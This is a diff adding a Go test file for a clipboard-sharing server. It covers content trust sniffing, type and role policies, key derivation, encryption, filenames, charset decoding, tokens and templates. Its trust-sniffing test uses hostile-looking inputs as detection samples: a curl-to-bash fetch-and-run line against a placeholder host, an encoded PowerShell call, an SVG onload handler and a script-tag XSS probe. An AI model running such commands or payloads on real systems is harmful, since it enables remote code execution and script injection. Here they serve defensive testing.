@@ -0,0 +1,587 @@
+package tests
+
+import (
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"io"
+	"strings"
+	"testing"
+	"testing/iotest"
+	"time"
+
+	"github.com/copybridge/copybridge-server/internal/clipboard"
+)
+
+func TestSniffTrust(t *testing.T) {
+	cases := map[string]clipboard.TrustLevel{
+		"Hello, World!":                           clipboard.TrustSafe,
+		"#!/bin/sh\necho hi":                      clipboard.TrustScript,
+		"curl -fsSL https://x.example/i | bash":   clipboard.TrustScript,
+		"powershell -enc SQBFAFgA":                clipboard.TrustScript,
+		"MZ\x90\x00\x03":                          clipboard.TrustExecutable,
+		"\x7fELF\x02\x01":                         clipboard.TrustExecutable,
+		"<!DOCTYPE html><html><body>hi":           clipboard.TrustScript,
+		"<?xml version=\"1.0\"?>\n<svg onload=x>": clipboard.TrustScript,
+		"  <script>alert(1)</script>":             clipboard.TrustScript,
+		"use <html> tags for markup":              clipboard.TrustSafe,
+	}
+	for data, expected := range cases {
+		if got := clipboard.SniffTrust(data); got != expected {
+			t.Errorf("SniffTrust(%q): expected %v; got %v", data, expected, got)
+		}
+	}
+}
+
+func TestTrustPolicyOverrides(t *testing.T) {
+	p, err := clipboard.NewTrustPolicy("text/x-python=safe, text/plain=script")
+	if err != nil {
+		t.Fatalf("error parsing trust levels. Err: %v", err)
+	}
+	if got := p.Assess(clipboard.NewClipboard("a", "text/x-python", "#!/usr/bin/env python")); got != clipboard.TrustSafe {
+		t.Errorf("expected overridden type to be safe; got %v", got)
+	}
+	if got := p.Assess(clipboard.NewClipboard("b", "text/plain", "hello")); got != clipboard.TrustScript {
+		t.Errorf("expected overridden type to be script; got %v", got)
+	}
+	if _, err := clipboard.NewTrustPolicy("text/plain=dangerous"); err == nil {
+		t.Errorf("expected unknown trust level to be rejected")
+	}
+}
+
+func TestTypePolicy(t *testing.T) {
+	p, err := clipboard.NewTypePolicy("text/*, image/png", true)
+	if err != nil {
+		t.Fatalf("error parsing allowlist: %v", err)
+	}
+
+	png := base64.StdEncoding.EncodeToString([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"))
+	tests := []struct {
+		dataType, data string
+		err            error
+	}{
+		{"text/plain", "hello", nil},
+		{"text/plain; charset=utf-8", "hello", nil},
+		{"image/png", png, nil},
+		{"application/json", "{}", clipboard.ErrTypeNotAllowed},
+		{"not a type", "hello", clipboard.ErrTypeNotAllowed},
+		{"", "hello", clipboard.ErrTypeNotAllowed},
+		{"image/png", "hello", clipboard.ErrTypeMismatch},
+		{"text/plain", "\x00\x01\x02\xff", clipboard.ErrTypeMismatch},
+	}
+	for _, tt := range tests {
+		if err := p.Check(tt.dataType, tt.data); !errors.Is(err, tt.err) {
+			t.Errorf("Check(%q, %q) = %v; expected %v", tt.dataType, tt.data, err, tt.err)
+		}
+	}
+
+	if _, err := clipboard.NewTypePolicy("*/png", false); err == nil {
+		t.Errorf("expected invalid pattern to be rejected")
+	}
+}
+
+func TestRoleAllows(t *testing.T) {
+	tests := []struct {
+		role, action string
+		allowed      bool
+	}{
+		{clipboard.RoleRead, clipboard.ActionRead, true},
+		{clipboard.RoleRead, clipboard.ActionUpdate, false},
+		{clipboard.RoleWrite, clipboard.ActionUpdate, true},
+		{clipboard.RoleWrite, clipboard.ActionDelete, false},
+		{clipboard.RoleWrite, clipboard.ActionShare, false},
+		{clipboard.RoleOwner, clipboard.ActionDelete, true},
+		{clipboard.RoleOwner, clipboard.ActionAudit, true},
+		{"", clipboard.ActionRead, false},
+	}
+	for _, tt := range tests {
+		if allowed := clipboard.RoleAllows(tt.role, tt.action); allowed != tt.allowed {
+			t.Errorf("RoleAllows(%q, %q) = %v; expected %v", tt.role, tt.action, allowed, tt.allowed)
+		}
+	}
+}
+
+func TestParseKDFParams(t *testing.T) {
+	p, err := clipboard.ParseKDFParams("")
+	if err != nil || p != clipboard.LegacyKDF {
+		t.Errorf("expected legacy parameters for empty string; got %+v, %v", p, err)
+	}
+
+	want := clipboard.KDFParams{LogN: 12, R: 8, P: 2}
+	p, err = clipboard.ParseKDFParams(want.String())
+	if err != nil || p != want {
+		t.Errorf("expected %+v; got %+v, %v", want, p, err)
+	}
+
+	for _, s := range []string{"bcrypt:10", "scrypt:9:8:1", "scrypt:21:8:1", "scrypt:15:0:1"} {
+		if _, err := clipboard.ParseKDFParams(s); err == nil {
+			t.Errorf("expected error for %q", s)
+		}
+	}
+}
+
+func TestEncryptKeepsKDFParams(t *testing.T) {
+	defer clipboard.ConfigureKDF(clipboard.KDFConfig{Params: clipboard.LegacyKDF})
+
+	if err := clipboard.ConfigureKDF(clipboard.KDFConfig{Params: clipboard.KDFParams{LogN: 10, R: 8, P: 1}, CacheSize: 4, CacheTTL: time.Minute}); err != nil {
+		t.Fatalf("error configuring KDF: %v", err)
+	}
+	c := &clipboard.Clipboard{Data: "hello"}
+	if err := c.Encrypt("pw"); err != nil {
+		t.Fatalf("error encrypting: %v", err)
+	}
+	if c.KDF != "scrypt:10:8:1" {
+		t.Errorf("expected KDF scrypt:10:8:1; got %q", c.KDF)
+	}
+
+	// Changing the parameters must not affect existing clipboards.
+	if err := clipboard.ConfigureKDF(clipboard.KDFConfig{Params: clipboard.KDFParams{LogN: 11, R: 8, P: 1}}); err != nil {
+		t.Fatalf("error configuring KDF: %v", err)
+	}
+	if err := c.Decrypt("pw"); err != nil || c.Data != "hello" {
+		t.Errorf("expected hello; got %q, %v", c.Data, err)
+	}
+}
+
+func TestChangePassword(t *testing.T) {
+	c := &clipboard.Clipboard{Data: "hello", Flavors: []clipboard.Flavor{{DataType: "text/html", Data: "<b>hello</b>"}}}
+	if err := c.Encrypt("old"); err != nil {
+		t.Fatalf("error encrypting: %v", err)
+	}
+	data := c.Data
+	if err := c.ChangePassword("old", "new"); err != nil {
+		t.Fatalf("error changing password: %v", err)
+	}
+	if c.Data != data || !c.Authenticate("new") {
+		t.Fatalf("expected the data to be kept and the password replaced")
+	}
+	if err := c.ChangePassword("wrong", "other"); err == nil {
+		t.Error("expected unwrapping with the wrong password to fail")
+	}
+	if err := c.Decrypt("new"); err != nil || c.Data != "hello" || c.Flavors[0].Data != "<b>hello</b>" {
+		t.Errorf("expected hello; got %q, %v", c.Data, err)
+	}
+}
+
+func TestChangePasswordUnwrapped(t *testing.T) {
+	// Clipboards encrypted before data keys were wrapped are encrypted with
+	// the derived key itself, which changing the password wraps.
+	c := &clipboard.Clipboard{Data: "hello", Salt: base64.StdEncoding.EncodeToString([]byte("0123456789abcdef"))}
+	if err := c.Encrypt("old"); err != nil {
+		t.Fatalf("error encrypting: %v", err)
+	}
+	if c.WrappedKey != "" {
+		t.Fatalf("expected no wrapped key; got %q", c.WrappedKey)
+	}
+	if err := c.ChangePassword("old", "new"); err != nil {
+		t.Fatalf("error changing password: %v", err)
+	}
+	if c.WrappedKey == "" {
+		t.Fatal("expected a wrapped key")
+	}
+	if err := c.Decrypt("new"); err != nil || c.Data != "hello" {
+		t.Errorf("expected hello; got %q, %v", c.Data, err)
+	}
+}
+
+func TestNegotiate(t *testing.T) {
+	types := []string{"text/plain", "text/html", "application/rtf"}
+	cases := map[string]int{
+		"":                                 0,
+		"*/*":                              0,
+		"text/html":                        1,
+		"application/rtf, text/html":       1,
+		"text/html;q=0.5, application/rtf": 2,
+		"text/*;q=0.8, text/plain;q=0.1":   1,
+		"text/plain;q=0, */*;q=0.1":        1,
+		"image/png":                        -1,
+		"text/plain;q=0":                   -1,
+	}
+	for accept, want := range cases {
+		if got := clipboard.Negotiate(accept, types); got != want {
+			t.Errorf("%q: expected %d; got %d", accept, want, got)
+		}
+	}
+}
+
+func TestCheckFlavors(t *testing.T) {
+	c := &clipboard.Clipboard{DataType: "text/plain", Flavors: []clipboard.Flavor{{DataType: "text/html"}, {DataType: "application/rtf"}}}
+	if err := c.CheckFlavors(); err != nil {
+		t.Errorf("expected distinct flavors to be valid; got %v", err)
+	}
+
+	c.Flavors = append(c.Flavors, clipboard.Flavor{DataType: "text/plain; charset=utf-8"})
+	if err := c.CheckFlavors(); err == nil {
+		t.Error("expected error for flavor duplicating the clipboard type")
+	}
+}
+
+func TestDisposition(t *testing.T) {
+	for _, name := range []string{"", "report.pdf", "Übersicht 2024.xlsx", ".bashrc"} {
+		if err := clipboard.CheckFilename(name); err != nil {
+			t.Errorf("expected %q to be a valid filename; got %v", name, err)
+		}
+	}
+	for _, name := range []string{".", "..", "a/b.txt", `a\b.txt`, "a\nb.txt", strings.Repeat("a", clipboard.MaxFilenameLength+1)} {
+		if err := clipboard.CheckFilename(name); err == nil {
+			t.Errorf("expected %q to be an invalid filename", name)
+		}
+	}
+
+	cases := []struct {
+		filename, disposition, want string
+	}{
+		{"", "", ""},
+		{"notes.txt", "", "attachment; filename=notes.txt"},
+		{"my notes.txt", "inline", `inline; filename="my notes.txt"`},
+		{"", "inline", "inline"},
+		{"ä.txt", "", "attachment; filename*=utf-8''%C3%A4.txt"},
+	}
+	for _, tc := range cases {
+		c := &clipboard.Clipboard{Filename: tc.filename, ContentDisposition: tc.disposition}
+		if got := c.DispositionHeader(); got != tc.want {
+			t.Errorf("%q, %q: expected %q; got %q", tc.filename, tc.disposition, tc.want, got)
+		}
+	}
+
+	disposition, filename, err := clipboard.ParseDisposition(`attachment; filename="C:\\Users\\me\\notes.txt"`)
+	if err != nil || disposition != "attachment" || filename != "notes.txt" {
+		t.Errorf("expected the last element of the path; got %q, %q, %v", disposition, filename, err)
+	}
+	if disposition, filename, err = clipboard.ParseDisposition("inline; filename*=UTF-8''%C3%A4.txt"); err != nil || disposition != "inline" || filename != "ä.txt" {
+		t.Errorf("expected an encoded filename; got %q, %q, %v", disposition, filename, err)
+	}
+	for _, header := range []string{"form-data; name=file", "attachment; filename", "attachment; filename=.."} {
+		if _, _, err := clipboard.ParseDisposition(header); err == nil {
+			t.Errorf("expected %q to be rejected", header)
+		}
+	}
+}
+
+func TestDownloadFilenames(t *testing.T) {
+	types := map[string]string{
+		"text/plain; charset=utf-8": ".txt",
+		"text/x-unknown":            ".txt",
+		"image/jpeg":                ".jpg",
+		"application/json":          ".json",
+		"application/x-unknown":     ".bin",
+		"":                          ".bin",
+	}
+	for dataType, want := range types {
+		if got := clipboard.Extension(dataType); got != want {
+			t.Errorf("Extension(%q) = %q; want %q", dataType, got, want)
+		}
+	}
+
+	cases := []struct {
+		name, filename, base, data, flavor string
+	}{
+		{"notes", "", "notes", "notes.txt", "notes.html"},
+		{"a/b\\c", "", "a_b_c", "a_b_c.txt", "a_b_c.html"},
+		{" .. ", "", "clipboard-7", "clipboard-7.txt", "clipboard-7.html"},
+		{"report", "q3.csv", "report", "q3.csv", "q3.html"},
+		{"rc", ".bashrc", "rc", ".bashrc", ".bashrc.html"},
+	}
+	for _, tc := range cases {
+		c := &clipboard.Clipboard{Id: 7, Name: tc.name, Filename: tc.filename, DataType: "text/plain"}
+		if got := c.BaseName(); got != tc.base {
+			t.Errorf("%q: expected base name %q; got %q", tc.name, tc.base, got)
+		}
+		if got := c.DataFilename(); got != tc.data {
+			t.Errorf("%q: expected data filename %q; got %q", tc.name, tc.data, got)
+		}
+		if got := c.FlavorFilename(clipboard.Flavor{DataType: "text/html"}); got != tc.flavor {
+			t.Errorf("%q: expected flavor filename %q; got %q", tc.name, tc.flavor, got)
+		}
+	}
+}
+
+func TestParseText(t *testing.T) {
+	cases := []struct {
+		dataType, data, wantType, wantCharset, want string
+	}{
+		{"text/plain", "héllo", "text/plain", "", "héllo"},
+		{"text/plain; charset=UTF-8", "héllo", "text/plain; charset=UTF-8", "", "héllo"},
+		{"text/plain; charset=windows-1252", "\x93caf\xe9\x94 \x80", "text/plain; charset=utf-8", "windows-1252", "“café” €"},
+		{"text/csv; charset=latin1", "na\xefve", "text/csv; charset=utf-8", "windows-1252", "naïve"},
+		{"text/plain; charset=shift_jis", "\x93\xfa\x96{", "text/plain; charset=utf-8", "shift_jis", "日本"},
+		{"text/plain; charset=utf-16le", "h\x00i\x00", "text/plain; charset=utf-8", "utf-16le", "hi"},
+		{"image/png; charset=windows-1252", "\x89PNG", "image/png; charset=windows-1252", "", "\x89PNG"},
+	}
+	for _, tc := range cases {
+		text, err := clipboard.ParseText(tc.dataType)
+		if err != nil {
+			t.Errorf("%s: unexpected error %v", tc.dataType, err)
+			continue
+		}
+		got, err := text.Decode(tc.data)
+		if err != nil || got != tc.want || text.DataType != tc.wantType || text.Charset != tc.wantCharset {
+			t.Errorf("%s: expected %q as %q from %q; got %q as %q from %q, %v", tc.dataType, tc.want, tc.wantType, tc.wantCharset, got, text.DataType, text.Charset, err)
+		}
+
+		// Streams are converted alike, however they are split.
+		streamed, err := io.ReadAll(text.Reader(iotest.OneByteReader(strings.NewReader(tc.data))))
+		if err != nil || string(streamed) != tc.want {
+			t.Errorf("%s: expected streamed %q; got %q, %v", tc.dataType, tc.want, streamed, err)
+		}
+	}
+
+	if _, err := clipboard.ParseText("text/plain; charset=klingon"); !errors.Is(err, clipboard.ErrUnknownCharset) {
+		t.Errorf("expected ErrUnknownCharset; got %v", err)
+	}
+	for dataType, data := range map[string]string{
+		"text/plain":                     "caf\xe9",
+		"application/json":               "\"\xff\"",
+		"text/plain; charset=shift_jis":  "\x81",
+		"text/plain; charset=euc-jp":     "\x8e\xff",
+		"text/plain; charset=utf-8":      "\xc3",
+		"text/markdown; charset=gb18030": "\x81\x30",
+	} {
+		text, err := clipboard.ParseText(dataType)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := text.Decode(data); !errors.Is(err, clipboard.ErrInvalidEncoding) {
+			t.Errorf("%s: expected ErrInvalidEncoding for %q; got %v", dataType, data, err)
+		}
+		if _, err := io.ReadAll(text.Reader(strings.NewReader(data))); !errors.Is(err, clipboard.ErrInvalidEncoding) {
+			t.Errorf("%s: expected ErrInvalidEncoding streaming %q; got %v", dataType, data, err)
+		}
+	}
+}
+
+func TestNormalizeLocale(t *testing.T) {
+	for locale, want := range map[string]string{"": "", "de": "de", "de_de": "de-DE", "EN-us": "en-US", "zh-Hant-TW": "zh-Hant-TW"} {
+		if got, err := clipboard.NormalizeLocale(locale); err != nil || got != want {
+			t.Errorf("%q: expected %q; got %q, %v", locale, want, got, err)
+		}
+	}
+	for _, locale := range []string{"x", "english", "de DE", strings.Repeat("a-", clipboard.MaxLocaleLength)} {
+		if _, err := clipboard.NormalizeLocale(locale); err == nil {
+			t.Errorf("expected %q to be rejected", locale)
+		}
+	}
+}
+
+func TestNormalizeScopes(t *testing.T) {
+	scopes, err := clipboard.NormalizeScopes([]string{" Read", "write", "read"})
+	if err != nil {
+		t.Fatalf("NormalizeScopes failed: %v", err)
+	}
+	if len(scopes) != 2 || scopes[0] != clipboard.ScopeRead || scopes[1] != clipboard.ScopeWrite {
+		t.Errorf("expected [read write], got %v", scopes)
+	}
+
+	for _, invalid := range [][]string{nil, {"admin"}, {"read", ""}} {
+		if _, err := clipboard.NormalizeScopes(invalid); err == nil {
+			t.Errorf("expected error for scopes %q", invalid)
+		}
+	}
+}
+
+func TestTokenAllows(t *testing.T) {
+	token := &clipboard.Token{Scopes: []string{clipboard.ScopeRead, clipboard.ScopeDelete}}
+	tests := []struct {
+		action  string
+		allowed bool
+	}{
+		{clipboard.ActionRead, true},
+		{clipboard.ActionUpdate, false},
+		{clipboard.ActionDelete, true},
+		{clipboard.ActionAudit, false},
+		{clipboard.ActionShare, false},
+	}
+	for _, tt := range tests {
+		if allowed := token.Allows(tt.action); allowed != tt.allowed {
+			t.Errorf("Allows(%q) = %v; expected %v", tt.action, allowed, tt.allowed)
+		}
+	}
+}
+
+func TestTokenSecret(t *testing.T) {
+	id, secret, err := clipboard.NewTokenSecret()
+	if err != nil {
+		t.Fatalf("NewTokenSecret failed: %v", err)
+	}
+	if id == "" || !clipboard.IsToken(secret) {
+		t.Errorf("unexpected token id %q and secret %q", id, secret)
+	}
+	if clipboard.IsToken("k1") {
+		t.Error("expected API key not to be a clipboard token")
+	}
+
+	now := time.Now()
+	past := now.Add(-time.Minute)
+	if (&clipboard.Token{ExpiresAt: &past}).Active(now) {
+		t.Error("expected expired token to be inactive")
+	}
+	if !(&clipboard.Token{}).Active(now) {
+		t.Error("expected token without expiry to be active")
+	}
+	if (&clipboard.Token{MaxViews: 2, Views: 2}).Active(now) {
+		t.Error("expected used up token to be inactive")
+	}
+}
+
+func TestCheckE2E(t *testing.T) {
+	b64 := func(n int) string { return base64.StdEncoding.EncodeToString(make([]byte, n)) }
+	valid := map[string]any{"v": 1, "kdf": "PBKDF2-SHA256", "iterations": 310000, "salt": b64(16), "iv": b64(12), "data": b64(21)}
+	envelope := func(key string, value any) string {
+		e := map[string]any{}
+		for k, v := range valid {
+			e[k] = v
+		}
+		if key != "" {
+			e[key] = value
+		}
+		b, _ := json.Marshal(e)
+		return string(b)
+	}
+
+	if err := clipboard.CheckE2E(envelope("", nil)); err != nil {
+		t.Errorf("expected valid envelope; got %v", err)
+	}
+	for _, data := range []string{
+		"plain text",
+		envelope("v", 2),
+		envelope("kdf", "scrypt"),
+		envelope("iterations", 1000),
+		envelope("salt", "not base64!"),
+		envelope("iv", b64(4)),
+		envelope("data", ""),
+	} {
+		if err := clipboard.CheckE2E(data); err == nil {
+			t.Errorf("expected error for envelope %s", data)
+		}
+	}
+}
+
+func TestContentHash(t *testing.T) {
+	a := clipboard.NewClipboard("a", "text/plain", "hello")
+	b := clipboard.NewClipboard("b", "text/plain", "hello")
+	if a.ContentHash() == "" || a.ContentHash() != b.ContentHash() {
+		t.Errorf("expected equal payloads to have equal hashes; got %q and %q", a.ContentHash(), b.ContentHash())
+	}
+
+	for _, c := range []*clipboard.Clipboard{
+		clipboard.NewClipboard("a", "text/html", "hello"),
+		clipboard.NewClipboard("a", "text/plain", "hello!"),
+		{DataType: "text/plain", Data: "hello", Flavors: []clipboard.Flavor{{DataType: "text/html", Data: "<b>hello</b>"}}},
+		// Fields are length-prefixed, so moving bytes between them changes the hash.
+		clipboard.NewClipboard("a", "text/plainh", "ello"),
+	} {
+		if c.ContentHash() == a.ContentHash() {
+			t.Errorf("expected %q of type %q to hash differently", c.Data, c.DataType)
+		}
+	}
+
+	encrypted := clipboard.NewClipboard("a", "text/plain", "hello")
+	encrypted.IsEncrypted = true
+	if h := encrypted.ContentHash(); h != "" {
+		t.Errorf("expected no hash for encrypted clipboards; got %q", h)
+	}
+}
+
+func TestTransform(t *testing.T) {
+	cases := []struct {
+		transforms []string
+		in, out    string
+	}{
+		{[]string{clipboard.TransformTrim}, "  hello \n", "hello"},
+		{[]string{clipboard.TransformNewlines}, "a\r\nb\rc\n", "a\nb\nc\n"},
+		{[]string{clipboard.TransformStripTracking}, "see https://example.com/a?id=1&utm_source=x&fbclid=y#top now", "see https://example.com/a?id=1#top now"},
+		{[]string{clipboard.TransformStripTracking}, "https://example.com/?UTM_Medium=x", "https://example.com/"},
+		{[]string{clipboard.TransformTabsToSpaces}, "\tif x {\n\t\ty\tz", "    if x {\n        y   z"},
+		{[]string{clipboard.TransformSpacesToTabs}, "        y  z\n   w\n  \tv", "\t\ty  z\n   w\n\tv"},
+		{[]string{clipboard.TransformNewlines, clipboard.TransformTrim}, "\r\n text \r\n", "text"},
+	}
+	for _, c := range cases {
+		if got := clipboard.Transform("text/plain", c.in, c.transforms); got != c.out {
+			t.Errorf("%v on %q: expected %q; got %q", c.transforms, c.in, c.out, got)
+		}
+	}
+
+	if got := clipboard.Transform("image/png", "  png  ", []string{clipboard.TransformTrim}); got != "  png  " {
+		t.Errorf("expected binary data to be left alone; got %q", got)
+	}
+}
+
+func TestNormalizeTransforms(t *testing.T) {
+	got, err := clipboard.NormalizeTransforms([]string{" Trim", "newlines", "trim"})
+	if err != nil || len(got) != 2 || got[0] != "trim" || got[1] != "newlines" {
+		t.Errorf("expected [trim newlines]; got %v, %v", got, err)
+	}
+
+	for _, transforms := range [][]string{{"upcase"}, {"tabs_to_spaces", "spaces_to_tabs"}} {
+		if _, err := clipboard.NormalizeTransforms(transforms); err == nil {
+			t.Errorf("expected %v to be rejected", transforms)
+		}
+	}
+}
+
+func TestPublicId(t *testing.T) {
+	a, err := clipboard.NewPublicId()
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, _ := clipboard.NewPublicId()
+	if a == b || !clipboard.IsPublicId(a) || !clipboard.IsPublicId(b) {
+		t.Errorf("expected distinct public ids; got %q and %q", a, b)
+	}
+
+	for _, id := range []string{"100000", "", strings.ToUpper(a), a[1:], a + "a"} {
+		if clipboard.IsPublicId(id) {
+			t.Errorf("expected %q not to be a public id", id)
+		}
+	}
+}
+
+func TestCode(t *testing.T) {
+	code, err := clipboard.NewCode()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !clipboard.IsCode(code) || strings.Count(code, "-") != 2 {
+		t.Errorf("expected a share code; got %q", code)
+	}
+
+	for _, s := range []string{"paper-tiger-42", "paper-tiger-999"} {
+		if !clipboard.IsCode(s) {
+			t.Errorf("expected %q to be a share code", s)
+		}
+	}
+	for _, s := range []string{"", "paper-tiger", "paper-tiger-4", "paper-tiger-1000", "Paper-Tiger-42", "paper tiger 42", "42"} {
+		if clipboard.IsCode(s) {
+			t.Errorf("expected %q not to be a share code", s)
+		}
+	}
+}
+
+func TestRenderTemplate(t *testing.T) {
+	now := time.Date(2024, 3, 1, 9, 30, 0, 0, time.UTC)
+	template := "Hi {{ name }}, join at {{link|https://meet.example/standup}} on {{date}} ({{weekday}}). {{ not a placeholder }} {{name}}"
+
+	got, err := clipboard.RenderTemplate(template, map[string]string{"name": "Alice"}, now)
+	want := "Hi Alice, join at https://meet.example/standup on 2024-03-01 (Friday). {{ not a placeholder }} Alice"
+	if err != nil || got != want {
+		t.Errorf("expected %q; got %q, %v", want, got, err)
+	}
+
+	// Variables take precedence over defaults and built-ins.
+	got, _ = clipboard.RenderTemplate("{{link|x}} {{date}}", map[string]string{"link": "y", "date": "today"}, now)
+	if got != "y today" {
+		t.Errorf("expected passed variables to be used; got %q", got)
+	}
+
+	var missing *clipboard.MissingVariablesError
+	if _, err := clipboard.RenderTemplate("{{a}} {{b}} {{a}} {{c|}}", nil, now); !errors.As(err, &missing) || strings.Join(missing.Names, ",") != "a,b" {
+		t.Errorf("expected a and b to be missing; got %v", err)
+	}
+
+	if vars := clipboard.TemplateVariables(template); strings.Join(vars, ",") != "name,link" {
+		t.Errorf("expected the variables name and link; got %v", vars)
+	}
+	if !clipboard.IsTemplate("text/x-template; charset=utf-8") || clipboard.IsTemplate("text/plain") {
+		t.Error("expected only templates to be recognized")
+	}
+}